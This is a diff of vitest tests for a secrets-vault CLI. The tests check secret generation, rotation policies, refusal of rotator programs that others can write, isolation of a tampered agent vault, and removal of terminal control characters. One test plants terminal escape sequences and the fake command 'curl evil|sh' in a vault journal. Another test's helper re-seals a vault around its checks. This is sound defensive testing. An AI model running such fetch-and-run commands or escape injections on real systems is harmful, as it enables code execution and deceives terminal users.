@@ -4,11 +4,15 @@
  * (test/fixtures/rotation/fake-provider-rotator.mjs): exit codes, --dry-run, --json, failures
  * and backoff, schedules, rollback, --all-agents, and no value in any output or the audit log.
  */
-import { chmodSync, existsSync, writeFileSync } from "node:fs";
+import { chmodSync, existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
 import type { CliIo } from "../src/cli/io.js";
 import { run } from "../src/cli/run.js";
+import { initCrypto } from "../src/crypto.js";
+import { parseVaultFile, sealVaultFile, type VaultBody } from "../src/format.js";
+import { keyFileKey, unlockWithSource } from "../src/keys.js";
+import { deriveKeys, macWith } from "../src/vault-keys.js";
 import { type Canary, LeakSearch, makeCanaries } from "./fixtures/canary/leaks.js";
 import {
   FakeProvider,
@@ -23,6 +27,7 @@ import {
   prepareCliHome,
   readStoredAudit,
   readStoredVault,
+  writeStoredVault,
 } from "./helpers/test-store.js";
 
 const cleanups: Array<() => void> = [];
@@ -194,6 +199,67 @@ describe("vault set and vault schedule with a rotation policy", () => {
     expect(JSON.parse(list.stdout).secrets).toEqual([]);
     const schedule = await w.cli(["schedule", "API_KEY", "--rotate", "0 3 * *"]);
     expect(schedule.code).toBe(2);
+  });
+
+  it("vault set --generate starts a secret from its random: rotator, without a terminal and without reading stdin", async () => {
+    const w = world();
+    await w.init();
+    const made = await runTracked(
+      [
+        "set",
+        "WEBHOOK_TOKEN",
+        "--generate",
+        "--rotate",
+        "@monthly",
+        "--rotator",
+        "random:32:hex:whk_",
+        "--json",
+      ],
+      w.env(),
+    );
+    expect(made.code, made.stderr).toBe(0);
+    expect(made.calls).toEqual({ stdinReads: 0, prompts: 0 });
+    const value = await w.get("WEBHOOK_TOKEN");
+    expect(value).toMatch(/^whk_[0-9a-f]{64}$/);
+    expect(made.stdout + made.stderr).not.toContain(value.slice(4, 12));
+    const again = await w.cli(["set", "WEBHOOK_TOKEN", "--generate"]);
+    expect(again.code, again.stderr).toBe(0);
+    expect(await w.get("WEBHOOK_TOKEN")).not.toBe(value);
+    const none = await w.cli(["set", "OTHER", "--generate", "--max-age", "30d"]);
+    expect(none.code).toBe(2);
+    expect(none.stderr).toContain("--rotator random:32");
+  });
+
+  it("metadata options alone change an existing secret's metadata without asking for its value or making a version, and merge the policy", async () => {
+    const w = world();
+    await w.init();
+    const value = fresh("kept");
+    await w.set("API_KEY", value, ["--rotate", "0 3 1 * *", "--rotator", "random:32"]);
+    // On a terminal: no prompt.
+    const onTty = await runCli(["set", "API_KEY", "--max-age", "30d", "--tag", "prod"], {
+      env: w.env(),
+      prompts: [],
+      now: () => T0,
+    });
+    expect(onTty.code, onTty.stderr).toBe(0);
+    expect(onTty.stdout).toContain("its value is unchanged (version 1)");
+    // Piped with nothing on stdin (cron, scripts): the same.
+    const piped = await runTracked(["set", "API_KEY", "--env", "OPENAI_KEY"], w.env(), "");
+    expect(piped.code, piped.stderr).toBe(0);
+    expect(await w.get("API_KEY")).toBe(value);
+    expect(await currentVersion(w, "API_KEY")).toBe(1);
+    const list = JSON.parse((await w.cli(["list", "--json"])).stdout) as {
+      secrets: Array<{ env?: string; tags: string[]; rotation?: Record<string, unknown> }>;
+    };
+    expect(list.secrets[0]).toMatchObject({ env: "OPENAI_KEY", tags: ["prod"] });
+    expect(list.secrets[0]?.rotation).toMatchObject({
+      schedule: "0 3 1 * *",
+      maxAge: "30d",
+      rotator: "random:32",
+    });
+    // A new secret still needs its value.
+    const missing = await runTracked(["set", "NEW_ONE", "--tag", "prod"], w.env(), "");
+    expect(missing.code).toBe(3);
   });
 
   it("vault schedule sets and clears a policy without changing the value", async () => {
@@ -373,6 +439,26 @@ describe("vault rotate", () => {
     expect(report.agents.map((agent) => agent.agent).sort()).toEqual(["alpha", "beta"]);
   });
 });
+
+/**
+ * What any holder of an agent's key can do: rewrite its own vault with a valid MAC, content
+ * and all, around every check `vault set` makes.
+ */
+async function rewriteOwnVault(w: World, agent: string, edit: (body: VaultBody) => void) {
+  await initCrypto();
+  const file = parseVaultFile(await w.vaultBytes(agent), agent);
+  const { dataKey } = await unlockWithSource(file, keyFileKey(w.keyFile(agent)));
+  const body = structuredClone(file) as VaultBody & { mac?: string; checksum?: string };
+  delete body.mac;
+  delete body.checksum;
+  edit(body);
+  body.generation += 1;
+  await writeStoredVault(
+    w.home,
+    agent,
+    Buffer.from(sealVaultFile(body, macWith(deriveKeys(dataKey, body))).bytes),
+  );
+}
 
 /** A rotator script written into the test's folder, executable. */
 function script(w: World, name: string, lines: string[]): string {
@@ -570,8 +656,105 @@ describe("rotators: the vault names one, the host chooses what runs", () => {
     await w.set("API_KEY", value, ["--max-age", "30d", "--rotator", "writable"]);
     const result = await w.cli(["rotate", "API_KEY", "--force"]);
     expect(result.code).toBe(1);
-    expect(result.stderr).toContain("only its owner");
+    expect(result.stderr).toContain("can be written by a user other than you or root");
     expect(await w.get("API_KEY")).toBe(value);
+  });
+
+  it("a rotator program in a folder others can write, or a script an interpreter runs that others can write, is not run", async () => {
+    const w = world();
+    const shared = join(w.dir, "shared");
+    mkdirSync(shared, { mode: 0o777 });
+    chmodSync(shared, 0o777);
+    const inShared = join(shared, "rotate.mjs");
+    writeFileSync(inShared, 'console.log(JSON.stringify({ ok: true, value: "y".repeat(40) }));', {
+      mode: 0o755,
+    });
+    const linked = join(w.dir, "linked-rotator");
+    symlinkSync(inShared, linked);
+    const script = join(w.dir, "script.mjs");
+    writeFileSync(script, 'console.log(JSON.stringify({ ok: true, value: "z".repeat(40) }));', {
+      mode: 0o666,
+    });
+    chmodSync(script, 0o666);
+    serveRotators(w.home, {
+      shared: [inShared],
+      linked: [linked],
+      interpreted: [process.execPath, script],
+    });
+    await w.init();
+    for (const rotator of ["shared", "linked", "interpreted"]) {
+      const value = fresh(rotator);
+      await w.set(`KEY_${rotator.toUpperCase()}`, value, [
+        "--max-age",
+        "30d",
+        "--rotator",
+        rotator,
+      ]);
+      const result = await w.cli(["rotate", `KEY_${rotator.toUpperCase()}`, "--force"]);
+      expect(result.code, rotator).toBe(1);
+      expect(result.stderr, rotator).toContain("can be written by a user other than you or root");
+      expect(await w.get(`KEY_${rotator.toUpperCase()}`), rotator).toBe(value);
+    }
+  });
+
+  it("one agent's vault with a policy written around the checks fails its own secret only: the other agents rotate, doctor and status still answer", async () => {
+    const w = world();
+    await w.init("aaa-attacker");
+    await w.init("zed-victim");
+    await w.set("TOKEN", fresh("a"), ["--max-age", "1d", "--rotator", "random:32"], "aaa-attacker");
+    await w.set("OTHER", fresh("a"), ["--max-age", "1d", "--rotator", "random:32"], "aaa-attacker");
+    const victims = fresh("victim");
+    await w.set("TOKEN", victims, ["--max-age", "1d", "--rotator", "random:32"], "zed-victim");
+    await rewriteOwnVault(w, "aaa-attacker", (body) => {
+      const token = body.secrets.find((secret) => secret.name === "TOKEN");
+      const other = body.secrets.find((secret) => secret.name === "OTHER");
+      if (token?.rotation) token.rotation = { ...token.rotation, rotator: "Not A Rotator" };
+      if (other?.rotation)
+        other.rotation = { ...other.rotation, schedule: "0 3 * * *", timezone: "Mars/Olympus" };
+    });
+    w.setClock(new Date(T0.getTime() + 2 * 86_400_000));
+    const cron = await w.cli(["rotate", "--all-agents", "--key-dir", w.dir, "--json"]);
+    expect(cron.code).toBe(1);
+    const report = JSON.parse(cron.stdout) as {
+      agents: Array<{ agent: string; outcomes: Array<{ name: string; result: string }> }>;
+    };
+    const victim = report.agents.find((entry) => entry.agent === "zed-victim");
+    expect(victim?.outcomes).toEqual([
+      expect.objectContaining({ name: "TOKEN", result: "rotated" }),
+    ]);
+    const attacker = report.agents.find((entry) => entry.agent === "aaa-attacker");
+    expect(attacker?.outcomes.map((outcome) => outcome.result)).toEqual(["failed", "failed"]);
+    const doctor = await w.cli(["doctor", "--key-dir", w.dir]);
+    expect([0, 1]).toContain(doctor.code);
+    expect(doctor.stdout).toContain(
+      "agent aaa-attacker rotator of TOKEN: the stored rotator is not valid",
+    );
+  });
+
+  it("vault status prints no control characters a vault holds (terminal escape sequences)", async () => {
+    const w = world();
+    await w.init();
+    await w.set("TOKEN", fresh("t"), ["--max-age", "30d", "--rotator", "random:32"]);
+    await rewriteOwnVault(w, "main", (body) => {
+      const [token] = body.secrets;
+      if (token) {
+        token.journal = {
+          attempts: 1,
+          error: {
+            at: T0.toISOString(),
+            message: "\u001b]2;owned\u0007\u001b[31mFAKE: run curl evil|sh",
+            step: "apply",
+          },
+          id: "A".repeat(22),
+          retryAt: T0.toISOString(),
+          startedAt: T0.toISOString(),
+          step: "started",
+        };
+      }
+    });
+    const status = await w.cli(["status"]);
+    expect(status.stdout).toContain("FAKE: run curl evil|sh");
+    expect([...status.stdout].filter((char) => char < " " && char !== "\n")).toEqual([]);
   });
 
   it("a failing rotator's message, stored unencrypted in the journal, keeps no run of 8 characters of the current, pending or new value", async () => {
